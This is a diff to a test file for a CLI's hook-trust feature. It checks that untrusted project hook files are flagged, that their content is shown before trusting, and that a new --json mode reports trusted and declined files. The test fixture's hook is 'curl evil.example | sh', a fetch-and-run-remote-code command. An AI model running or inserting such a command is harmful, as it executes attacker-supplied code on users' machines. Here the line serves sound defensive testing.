@@ -45,6 +45,16 @@ describe("boxmaker hooks", () => {
     expect((await t.stack.cli(["hooks"])).stdout).toContain(`${projectFile()} — NOT trusted`);
     expect((await t.stack.cli(["hooks", "trust"], { input: "\n" })).stdout).toContain("curl evil.example | sh");
     expect((await t.stack.cli(["hooks"])).stdout).toContain("NOT trusted");
+    // --json: the content is still shown (on stderr), and stdout is one JSON object of what was decided.
+    const no = await t.stack.cli(["hooks", "trust", "--json"], { input: "n\n" });
+    expect(no.stderr).toContain("curl evil.example | sh");
+    expect(JSON.parse(no.stdout)).toEqual({ trusted: [], declined: [projectFile()] });
+    const yes = await t.stack.cli(["hooks", "trust", "--json", "--yes"]);
+    expect(yes.stderr).toContain("curl evil.example | sh");
+    expect(JSON.parse(yes.stdout)).toEqual({
+      trusted: [{ file: projectFile(), sha256: expect.stringMatching(/^[0-9a-f]{64}$/) }],
+      declined: [],
+    });
   });
 
   it("trusting a file that is not a project hook file is a usage error", async () => {
